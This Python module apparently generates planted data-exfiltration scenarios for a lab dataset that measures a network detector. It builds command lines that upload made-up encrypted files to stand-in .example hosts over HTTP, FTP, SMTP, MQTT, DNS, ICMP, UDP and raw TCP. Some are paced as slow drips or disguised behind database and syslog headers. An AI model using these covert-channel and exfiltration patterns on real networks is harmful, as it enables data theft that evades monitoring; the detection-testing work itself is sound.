"""What the test half holds besides ordinary life: planted transfers, hard negatives.

The transfers move made-up data, encrypted beforehand under a throwaway key, from one
namespace of the lab to another with ordinary clients. They exist to measure a detector
and are exactly as plain as that.

`TRANSFERS` says which there are; the split decides ciphers, ports, addresses, hosts,
sizes and hours, so that none is shared. One file because the list is read as a whole:
what is planted and how it travels.
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

from sample_lab.schedule import Session

from lab import sealing
from lab.honest import HONEST, POST, PROXY
from lab.sealing import Load

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from lab.splits import Split
    from lab.world import LabWorld

EXFIL = "exfil"
HARD = "hard-negative"
KB = 1000

# Shares and stores that the baseline uploads to.
SHARES = (
    "share.filedrop.example", "drive.mailhost.example", "objects.cloudvault.example",
)  # fmt: skip


@dataclass
class Scenario:
    """A planted transfer or a hard negative, as one or more sessions.

    ``n_bytes`` is the data before encryption and encoding, over all sessions;
    ``visible`` is whether a sensor can see the ciphertext as such.
    """

    name: str
    label: str
    host: str
    to: str
    carrier: str
    via: str
    cipher: str
    encoding: str
    pacing: str
    n_bytes: int
    visible: bool = True
    sessions: list[Session] = field(default_factory=list)

    @property
    def is_dns(self) -> bool:
        """Return whether lookups are the transfer, not its preparation."""
        return self.carrier.startswith("dns")


@dataclass(frozen=True)
class Transfer:
    """One kind of planted transfer: three ports, one for each split, and a size.

    ``least`` and ``most`` bound the bytes; ``pieces`` is how many sessions they are
    spread over, in the rhythm that ``pacing`` names.
    """

    name: str
    carrier: str
    ports: tuple[int, int, int]
    least: int
    most: int
    pacing: str = "burst"
    pieces: int = 1
    via: str = ""
    encoding: str = ""
    where: str = "new"
    visible: bool = True


T = Transfer
TRANSFERS = (
    T("tcp-odd", "tcp", (41873, 5757, 13337), 20 * KB, 2000 * KB),
    T("tcp-as-https", "tcp", (443, 993, 22), 30 * KB, 1500 * KB, where="cloud"),
    T("tcp-as-mail", "tcp", (25, 587, 143), 20 * KB, 400 * KB),
    T("tcp-large", "tcp", (58211, 49771, 61044), 20_000 * KB, 50_000 * KB),
    T("tcp-many-connections", "tcp", (8443, 4443, 9443), 100 * KB, 1500 * KB,
      "many connections", 1),
    T("tcp-many-destinations", "tcp", (6667, 8333, 7070), 60 * KB, 900 * KB,
      "many destinations", 12, where="cloud"),
    T("tcp-drip", "tcp", (50505, 39001, 47123), 60 * KB, 600 * KB, "drip", 36),
    T("tcp-working-hours", "tcp", (8883, 995, 443), 60 * KB, 1200 * KB,
      "working hours", 15, where="cloud"),
    T("tcp-trickle", "tcp", (10443, 2222, 3389), 60 * KB, 200 * KB, "trickle"),
    T("tcp-web-head", "tcp-head", (80, 8080, 8000), 200 * KB, 900 * KB),
    T("redis-head", "tcp-head", (6379, 11211, 5432), 30 * KB, 500 * KB),
    T("udp-dns-port", "udp", (53, 5353, 53), 40 * KB, 160 * KB),
    T("udp-ntp-port", "udp", (123, 123, 1123), 30 * KB, 120 * KB),
    T("udp-quic-port", "udp", (443, 8443, 443), 30 * KB, 800 * KB, where="cloud"),
    T("udp-other", "udp", (1900, 5060, 161), 25 * KB, 300 * KB),
    T("udp-drip", "udp", (27015, 33434, 51413), 25 * KB, 200 * KB, "drip", 20,
      where="cloud"),
    T("syslog-head", "udp-head", (514, 1514, 5140), 50 * KB, 200 * KB),
    T("http-post-proxy", "http-post", (80, 80, 80), 50 * KB, 2000 * KB, via="proxy"),
    T("http-base64-proxy", "http-post", (80, 80, 80), 25 * KB, 500 * KB, via="proxy",
      encoding="base64", where="cdn"),
    T("http-multipart-proxy", "http-form", (80, 80, 80), 40 * KB, 900 * KB,
      via="proxy", where="known"),
    T("http-beacon-proxy", "http-post", (80, 80, 80), 30 * KB, 300 * KB, "drip", 30,
      via="proxy", encoding="base64", where="known"),
    T("http-large-proxy", "http-put", (80, 80, 80), 5000 * KB, 15_000 * KB,
      via="proxy"),
    T("http-put-address", "http-put", (80, 8081, 8888), 60 * KB, 1500 * KB),
    T("http-json-cdn", "http-post", (80, 80, 80), 20 * KB, 300 * KB, encoding="json",
      where="cdn"),
    T("http-hours", "http-form", (80, 8008, 80), 60 * KB, 700 * KB, "working hours",
      12),
    T("ftp-passive", "ftp", (21, 21, 21), 60 * KB, 4000 * KB),
    T("ftp-active", "ftp-active", (21, 21, 21), 40 * KB, 900 * KB, "drip", 6,
      where="known"),
    T("mail-relay", "mail", (25, 25, 25), 25 * KB, 500 * KB, via="relay",
      encoding="mail"),
    T("mail-relay-drip", "mail", (25, 25, 25), 50 * KB, 300 * KB, "drip", 10,
      via="relay", encoding="mail", where="known"),
    T("mail-direct", "mail", (25, 25, 25), 50 * KB, 300 * KB, encoding="mail"),
    T("icmp-echo", "icmp", (0, 0, 0), 40 * KB, 250 * KB),
    T("icmp-drip", "icmp", (0, 0, 0), 20 * KB, 60 * KB, "drip", 12),
    T("dns-names-resolver", "dns", (53, 53, 53), 20 * KB, 36 * KB, via="resolver",
      encoding="base32"),
    T("dns-drip-resolver", "dns", (53, 53, 53), 20 * KB, 26 * KB, "drip", 24,
      via="resolver", encoding="hex"),
    T("dns-direct", "dns", (53, 53, 53), 20 * KB, 60 * KB, encoding="base32"),
    T("websocket", "ws", (80, 80, 80), 40 * KB, 1500 * KB),
    T("mqtt-publish", "mqtt", (1883, 1883, 1883), 30 * KB, 600 * KB, "drip", 8),
    T("websocket-tls", "wss", (443, 443, 443), 100 * KB, 2000 * KB, where="cdn",
      visible=False),
    T("https-put-proxy", "https-put", (443, 443, 443), 200 * KB, 5000 * KB,
      via="proxy", where="known", visible=False),
    T("quic-put", "quic", (443, 443, 443), 300 * KB, 2500 * KB, visible=False),
)  # fmt: skip


class Planner:
    """Draws every scenario of a split, and lists what must stand ready for it.

    Attributes
    ----------
    names
        New names and their addresses, web names included.
    addresses
        Every new address.
    answers
        What `answer.py` listens on.
    """

    def __init__(self, split: Split, places: LabWorld) -> None:
        self.split = split
        self.index = split.index
        self.places = places
        self.rng = random.Random(f"{split.seed} scenarios")
        self.addresses: list[str] = []
        self.names: dict[str, str] = {}
        self.answers: list[dict[str, Any]] = []
        self.loads: list[Load] = []
        self.web_ports: list[tuple[str, str, int]] = []
        self.zones: dict[str, str] = {}
        self.mail_domains: list[tuple[str, str]] = []
        self.brokers: list[str] = []
        self.shells: list[str] = []
        self.quic: dict[str, str] = {}
        self.vpns: dict[str, str] = {}
        self._nets = iter(places.fresh)
        people = [h.name for h in places.hosts if h.role in (
            "sales", "developers", "finance")]  # fmt: skip
        self.rng.shuffle(people)
        self._people = people * 4
        self._words = [f"{a}{b}" for a in _FRONT[split.index] for b in _BACK]
        self.rng.shuffle(self._words)
        self.scenarios: list[Scenario] = []
        for number, transfer in enumerate(TRANSFERS):
            self.scenarios.append(self._transfer(number, transfer))
        for plan in HONEST:
            plan(self)

    # Names, addresses, hosts and hours.

    def _address(self, where: str = "new") -> str:
        if where == "cdn":
            return self.rng.choice(self.places.cdn)
        net = self.rng.choice(self.places.cloud) if where == "cloud" else ""
        while True:
            # What the baseline's services use in a cloud ends below 150.
            address = f"{net or next(self._nets)}{self.rng.randrange(150, 250)}"
            if address not in self.addresses:
                self.addresses.append(address)
                return address

    def name(self, where: str = "new", first: str = "") -> tuple[str, str]:
        """Return a name that nobody asked for before, and its address."""
        if where == "known":
            # A popular site that the baseline visits over plain HTTP.
            site = self.rng.choice(
                [
                    s
                    for s in self.places.sites[:80]
                    if not s.ip6 and sum(s.name.encode()) % 6 == 0
                ]
            )
            return site.name, site.ip
        first = first or self.rng.choice(("www", "up", "s3", "n7", "data", "in", "api"))
        name = f"{first}.{self._words.pop()}.example"
        self.names[name] = self._address(where)
        return name, self.names[name]

    def mail_domain(self) -> str:
        """Return a domain that nobody wrote to before."""
        domain = f"{self._words.pop()}.example"
        self.mail_domains.append((domain, self._address()))
        return domain

    def _hour(self, host: str, *, working: bool = False) -> float:
        """Return the start of a session: hours since midnight of the first test day."""
        people = host.rstrip("0123456789") in ("sales", "dev", "finance")
        day = self.rng.randrange(3)
        if working or (people and self.rng.random() < 0.75):
            return 24 * day + min(max(self.rng.gauss(13, 2.6), 7.5), 18.5)
        return 24 * day + self.rng.uniform(0.3, 23.5)

    def _times(self, host: str, pacing: str, pieces: int) -> list[float]:
        if pacing == "drip":
            # Every so often, with some play, over all three days.
            step = 66 / pieces
            begin = self.rng.uniform(0.5, 3)
            return [
                max(begin + step * (i + self.rng.uniform(-0.25, 0.25)), 0.1)
                for i in range(pieces)
            ]
        if pacing == "working hours":
            hours = [self._hour(host, working=True) for _ in range(pieces)]
            return sorted(hours)
        begin = self._hour(host)
        return [begin + i * self.rng.uniform(0.02, 0.06) for i in range(pieces)]

    def add(self, plan: Scenario, hour: float, script: str, pace: float = 4.0) -> None:
        """Add a session, `hour` hours after the first test day began."""
        when = self.split.when(14, hour)
        host = self.places.host[plan.host]
        plan.sessions.append(
            Session(
                when, host, plan.to, plan.carrier, script, plan.name, plan.label, pace
            )
        )

    def _label(self, name: str) -> str:
        return f"{name}-{'abc'[self.index]}"

    # Planted transfers.

    def _transfer(self, number: int, kind: Transfer) -> Scenario:
        rng, index = self.rng, self.split.index
        # Steps of three over ten ciphers: no carrier has one cipher in two splits.
        cipher = sealing.CIPHERS[(number * 7 + index * 3) % len(sealing.CIPHERS)]
        size = int(math.exp(rng.uniform(math.log(kind.least), math.log(kind.most))))
        host = self._people.pop()
        # What servers say to each other stays between them, unseen by the router.
        if number % 6 == 3 and not kind.via:
            host = rng.choice(("fileserver", "build", "monitor"))
        elif number % 6 == 5:
            host = rng.choice(("camera1", "camera2", "thing1", "thing2"))
        plan = Scenario(
            self._label(kind.name), EXFIL, host, "", kind.carrier, kind.via,
            cipher, kind.encoding, kind.pacing, 0, kind.visible,
        )  # fmt: skip
        port = kind.ports[index]
        send = self._carrier(kind, plan, port)
        parts = kind.pieces if kind.pacing != "many connections" else 50
        files = [
            self._load(plan, i, max(size // parts, 64), rng.randrange(1 << 24))
            for i in range(parts)
        ]
        if kind.pacing == "many connections":
            pause = "sleep 0.01"
            script = "; ".join(f"{send(f'$S/{file}')}; {pause}" for file in files)
            self.add(plan, self._hour(host), f"set -e; {script}", pace=900.0)
            return plan
        hours = self._times(host, kind.pacing, parts)
        pace = 3600.0 if kind.pacing == "trickle" else 4.0
        for hour, file in zip(hours, files, strict=True):
            self.add(plan, hour, send(f"$S/{file}"), pace)
        return plan

    def _load(self, plan: Scenario, piece: int, size: int, offset: int) -> str:
        encoding = plan.encoding if plan.encoding in ("base64", "json", "mail") else ""
        load = Load(f"{plan.name}.{piece}", offset, size, plan.cipher, encoding)
        self.loads.append(load)
        plan.n_bytes += size
        return load.file

    def _carrier(
        self, kind: Transfer, plan: Scenario, port: int
    ) -> Callable[[str], str]:
        """Prepare the receiving end; return what sends one file."""
        family = kind.carrier.partition("-")[0]
        method: Callable[[Transfer, Scenario, int], Callable[[str], str]]
        method = getattr(self, f"_by_{family}")
        plan.carrier = f"{kind.carrier}/{port}" if port else kind.carrier
        return method(kind, plan, port)

    def _known(self, names: Sequence[str]) -> str:
        """Return a name that the baseline uses too: its own share of each split."""
        return self.rng.choice(names[self.index :: 3])

    def _by_tcp(
        self, kind: Transfer, plan: Scenario, port: int
    ) -> Callable[[str], str]:
        count = 12 if kind.pacing == "many destinations" else 1
        ips = [self._address(kind.where) for _ in range(count)]
        kind_of_end = "chatty" if self.rng.random() < 0.4 else "sink"
        self.answers += [{"kind": kind_of_end, "ip": ip, "port": port} for ip in ips]
        plan.to = " ".join(ips)
        head = ""
        if kind.carrier.endswith("head"):
            plan.encoding = "plaintext head"
            head = _HEADS.get(
                port, "POST /v2/sync HTTP/1.1\\r\\nHost: cache\\r\\n\\r\\n"
            )
        slow = "512 0.006" if kind.pacing == "trickle" else "0 0"
        turn = iter(ips * 99)

        def send(file: str) -> str:
            return f"$PY $L/talk.py tcp {next(turn)} {port} {file} '{head}' {slow}"

        return send

    def _by_udp(
        self, kind: Transfer, plan: Scenario, port: int
    ) -> Callable[[str], str]:
        plan.to = self._address(kind.where)
        quiet = self.rng.random() < 0.5
        answer = "deaf" if quiet or port in (514, 1514, 5140) else "murmur"
        self.answers.append({"kind": answer, "ip": plan.to, "port": port})
        head = ""
        if kind.carrier.endswith("head"):
            plan.encoding = "plaintext head"
            head = "<14>Mar  5 10:00:01 host app[311]: "
        size = self.rng.choice((300, 480, 900, 1200, 1350))

        def send(file: str) -> str:
            return f"$PY $L/talk.py udp {plan.to} {port} {file} '{head}' {size} 0.001"

        return send

    def _by_http(
        self, kind: Transfer, plan: Scenario, port: int
    ) -> Callable[[str], str]:
        name, ip = self.name(kind.where)
        scheme = "http"
        known = f"{name}:{port}" if port != 80 else name
        if kind.name.startswith("http-put-address"):
            known = f"{ip}:{port}"
        plan.to = known
        if port != 80:
            self.web_ports.append((name, ip, port))
        return self._http(kind, f"{scheme}://{known}", PROXY if kind.via else "")

    def _by_https(
        self, kind: Transfer, plan: Scenario, port: int
    ) -> Callable[[str], str]:
        known = kind.where == "known"
        plan.to = self._known(SHARES) if known else self.name(kind.where)[0]
        return self._http(kind, f"https://{plan.to}", PROXY if kind.via else "")

    def _http(self, kind: Transfer, base: str, proxy: str) -> Callable[[str], str]:
        what = {"json": "application/json", "base64": "text/plain"}.get(
            kind.encoding, "application/octet-stream"
        )

        def send(file: str) -> str:
            if kind.carrier == "http-form":
                return f"{POST}{proxy}-F file=@{file} -F id=7 {base}/upload"
            if kind.carrier.endswith("-put"):
                return f"{POST}{proxy}-T {file} {base}/dav/item"
            return (
                f"{POST}{proxy}-H 'Content-Type: {what}' --data-binary @{file}"
                f" {base}/api/in"
            )

        return send

    def _by_ftp(
        self, kind: Transfer, plan: Scenario, port: int
    ) -> Callable[[str], str]:
        known = kind.where == "known"
        plan.to = (
            self._known(list(self.places.ftp)) if known else self.name("new", "ftp")[0]
        )
        mode = "-P -" if kind.carrier == "ftp-active" else ""

        def send(file: str) -> str:
            return (
                f"curl -sS -m 60 --disable-eprt {mode} -u guest:x -T {file}"
                f" ftp://{plan.to}/in/"
            )

        return send

    def _by_mail(
        self, kind: Transfer, plan: Scenario, port: int
    ) -> Callable[[str], str]:
        known = [name for name, _ in self.places.domains[:15]]
        domain = self._known(known) if kind.where == "known" else self.mail_domain()
        plan.to = domain
        server = "relay.corp.example" if kind.via else f"mx.{domain}"
        wait = "; sleep 0.5" if kind.via else ""

        def send(file: str) -> str:
            return (
                f"curl -sS -m 60 smtp://{server}:{port}/{plan.host} -T {file}"
                f" --mail-from office@corp.example --mail-rcpt box@{domain}{wait}"
            )

        return send

    def _by_icmp(
        self, kind: Transfer, plan: Scenario, port: int
    ) -> Callable[[str], str]:
        plan.to = self._address()
        size = self.rng.choice((256, 512, 1024, 1400))
        return lambda file: f"$PY $L/talk.py icmp {plan.to} {file} {size} 0.002"

    def _by_dns(
        self, kind: Transfer, plan: Scenario, port: int
    ) -> Callable[[str], str]:
        domain = f"{self.rng.choice(('t', 'ns', 'd'))}.{self._words.pop()}.example"
        plan.to = domain
        ip = self._address()
        server = self.places.resolver
        if kind.via:
            self.zones[domain] = ip
        else:
            server = ip
            self.answers.append({"kind": "namer", "ip": ip, "port": 53})
        kinds = ("A", "TXT", "NULL", "AAAA")
        query = kinds[(len(self.zones) + self.split.index) % 4]
        sockets = "one" if kind.pacing == "burst" else "each"
        return lambda file: (
            f"$PY $L/talk.py dns {server} {domain} {file} {kind.encoding} {query}"
            f" {sockets} 0.003"
        )

    def _by_ws(self, kind: Transfer, plan: Scenario, port: int) -> Callable[[str], str]:
        plan.to, _ = self.name(first="ws")
        frames = self.rng.randint(6, 60)
        url = f"ws://{plan.to}/ws"
        return lambda file: f"$PY $L/talk.py ws {url} {file} {frames} 0.005"

    def _by_wss(
        self, kind: Transfer, plan: Scenario, port: int
    ) -> Callable[[str], str]:
        send = self._by_ws(kind, plan, port)
        return lambda file: send(file).replace("ws://", "wss://")

    def _by_mqtt(
        self, kind: Transfer, plan: Scenario, port: int
    ) -> Callable[[str], str]:
        plan.to, ip = self.name(first="mq")
        self.brokers.append(ip)
        return lambda file: (
            f"mosquitto_pub -h {plan.to} -p {port} -q 1 -i {plan.host}"
            f" -t dev/{plan.host}/blob -f {file}"
        )

    def _by_quic(
        self, kind: Transfer, plan: Scenario, port: int
    ) -> Callable[[str], str]:
        name, ip = self.name(where="cloud", first="q")
        plan.to = name
        self.quic[name] = ip
        return lambda file: (
            f"dig +short {name} >/dev/null; $PY $L/quic.py put {ip} {name} {file}"
        )

    # Hard negatives.

    def honest(self, name: str, roles: str, to: str, carrier: str) -> Scenario:
        """Begin a hard negative, by some host of one of these roles."""
        hosts = [h.name for h in self.places.hosts if h.role in roles.split()]
        host = self.rng.choice(hosts)
        plan = Scenario(
            self._label(name), HARD, host, to, carrier, "", "", "", "burst", 0
        )
        self.scenarios.append(plan)
        return plan

    def add_at_work(self, plan: Scenario, script: str, pace: float = 4.0) -> None:
        """Add a session at some hour of a working day."""
        self.add(plan, self._hour(plan.host, working=True), script, pace)


_HEADS = {
    6379: "*3\\r\\n$3\\r\\nSET\\r\\n$6\\r\\nbackup\\r\\n$400000\\r\\n",
    11211: "set backup 0 0 400000\\r\\n",
    5432: "COPY backup FROM STDIN WITH BINARY;\\r\\n",
    80: "POST /v2/sync HTTP/1.1\\r\\nHost: cdn.local\\r\\nUser-Agent: agent/1\\r\\n\\r\\n",
}
_FRONT = (
    ["amber", "basalt", "cobalt", "dune", "ember", "fjord"],
    ["garnet", "heath", "indigo", "jasper", "kelp", "lagoon"],
    ["mistral", "nectar", "opal", "prairie", "quartz", "reef"],
)
_BACK = [
    "works",
    "host",
    "box",
    "point",
    "line",
    "base",
    "shop",
    "press",
    "field",
    "gate",
]
